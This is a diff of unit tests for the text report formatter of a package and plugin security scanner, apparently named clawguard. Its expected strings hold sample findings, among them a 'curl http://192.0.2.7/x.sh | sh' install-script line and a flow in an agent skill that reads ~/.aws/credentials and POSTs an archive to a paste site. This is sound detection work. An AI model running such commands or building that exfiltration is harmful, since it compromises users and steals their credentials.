@@ -1,11 +1,13 @@
 import { describe, expect, it } from 'vitest';
 import { colorWanted, renderText } from '../../src/report/format.js';
-import { MIXED_FINDINGS, report } from './sample-reports.js';
+import { FLOW_FINDING, FLOW_HOSTILE_FINDING, MIXED_FINDINGS, report } from './sample-reports.js';
 
 const ANSI = /\u001b\[/;
 
 describe('renderText', () => {
   const text = renderText(report(MIXED_FINDINGS), { color: false });
+  // Lines wrap at 80 columns: long phrases are checked with the wrapping undone.
+  const flat = text.replace(/\n +/g, ' ');
 
   it('starts with the target and the verdict, and says what to do', () => {
     const lines = text.split('\n');
@@ -18,7 +20,7 @@ describe('renderText', () => {
     const headings = [...text.matchAll(/^(CRITICAL|HIGH|MEDIUM|LOW|INFO) \((\d+)\)$/gm)].map((m) => `${m[1]} ${m[2]}`);
     expect(headings).toEqual(['CRITICAL 1', 'HIGH 1', 'LOW 2', 'INFO 1']);
     const critical = text.slice(text.indexOf('CRITICAL (1)'), text.indexOf('HIGH (1)'));
-    expect(critical).toContain('threat-install-download-exec: Install script downloads and runs a remote script');
+    expect(critical.replace(/\n +/g, ' ')).toContain('threat-install-download-exec: Install script downloads and runs a remote script');
     expect(critical).toContain('at helper@2.0.0 install.js:12 (via @evil/plugin>helper)');
     expect(critical).toContain('evidence: curl http://192.0.2.7/x.sh | sh');
     expect(critical).toContain('fix: Do not install; report the package to the registry.');
@@ -27,13 +29,13 @@ describe('renderText', () => {
   it('keeps suppressed findings visible but out of the severity groups', () => {
     const beforeSuppressed = text.slice(0, text.indexOf('SUPPRESSED (1)'));
     expect(beforeSuppressed).not.toContain('threat-obfuscated-code');
-    expect(text.slice(text.indexOf('SUPPRESSED (1)'))).toContain('suppressed: Reviewed: vendored minified SDK, not obfuscation (until 2027-01-01)');
+    expect(flat.slice(flat.indexOf('SUPPRESSED (1)'))).toContain('suppressed: Reviewed: vendored minified SDK, not obfuscation (until 2027-01-01)');
   });
 
   it('lists lifecycle scripts with their approval state and says how to approve', () => {
     expect(text).toContain('[not approved] helper@2.0.0 postinstall: node install.js');
     expect(text).toContain('[approved] esbuild@0.25.0 postinstall: node install.js');
-    expect(text).toContain('clawguard plugins approve-scripts evil-plugin');
+    expect(flat).toContain('clawguard plugins approve-scripts evil-plugin');
   });
 
   it('neutralises terminal escapes and invisible characters in attacker text', () => {
@@ -103,7 +105,7 @@ describe('renderText: tree, update and resolved sections', () => {
     expect(withSections).toContain('DEPENDENCY TREE (2 packages)');
     expect(withSections).toMatch(/^ {2}helper@2\.0\.0 +provenance, signature verified, published 2025-12-01 via p>helper$/m);
     expect(withSections).toMatch(/^ {2}leaf@1\.0\.0 +no provenance via p>helper>leaf$/m);
-    expect(withSections).toContain(`lockfile sha256 ${'a'.repeat(64)}`);
+    expect(withSections.replace(/\n +/g, ' ')).toContain(`lockfile sha256 ${'a'.repeat(64)}`);
     expect(withSections).toContain('UPDATE p@1.0.0 → p@2.0.0');
     expect(withSections).toContain('  files added (1): dist/new.js');
     expect(withSections).toContain('  dependency versions changed (1): helper 1.0.0 → 2.0.0');
@@ -117,5 +119,31 @@ describe('renderText: tree, update and resolved sections', () => {
 
   it('keeps an unknown extra section visible as JSON', () => {
     expect(renderText(report([], { custom: { a: 1 } }), { color: false })).toMatch(/^CUSTOM\n {2}\{\n {4}"a": 1/m);
+  });
+});
+
+describe('renderText: flows and widths', () => {
+  const text = renderText(report([FLOW_FINDING, FLOW_HOSTILE_FINDING, ...MIXED_FINDINGS]), { color: false });
+
+  it('shows a flow as an arrow chain of steps with file:line, source first, and when it runs', () => {
+    const block = text.slice(text.indexOf('skill-credential-exfil'));
+    // One hop per line when the chain does not fit on one, each continuation starting with the arrow.
+    expect(block).toMatch(/flow: reads ~\/\.aws\/credentials \(SKILL\.md:31\)\n {12}→ archives/);
+    const flow = block.replace(/\n +/g, ' ');
+    expect(flow).toMatch(/flow: reads ~\/\.aws\/credentials \(SKILL\.md:31\)\s+→ archives \/tmp\/x\.tgz \(scripts\/pack\.sh:4\) \[decoded\]\s+→ POST to files\.example \(paste site\) \(SKILL\.md:40\) \[emulated as linux-dev\]/);
+    expect(block).toContain('runs when the agent follows the skill');
+    expect(text).toContain('runs when the gateway loads the plugin');
+  });
+
+  it('keeps attacker text in a flow inert', () => {
+    expect(text).not.toMatch(ANSI);
+    expect(text).toContain('\\u{1b}[2K');
+  });
+
+  it('fits 80 columns, findings, scripts and tree included', () => {
+    const long = report([...MIXED_FINDINGS, { ...FLOW_FINDING, message: 'x '.repeat(150), remediation: 'do this '.repeat(40), evidence: 'A'.repeat(500) }], {
+      tree: { packages: [{ package: `${'very-long-package-name-'.repeat(4)}@1.0.0`, path: 'a>b>c>d>e>f>g>h>i>j>k', provenance: false, publishedAt: '2026-01-01T00:00:00Z' }] },
+    } as any);
+    for (const line of renderText(long, { color: false }).split('\n')) expect([...line].length, line).toBeLessThanOrEqual(80);
   });
 });
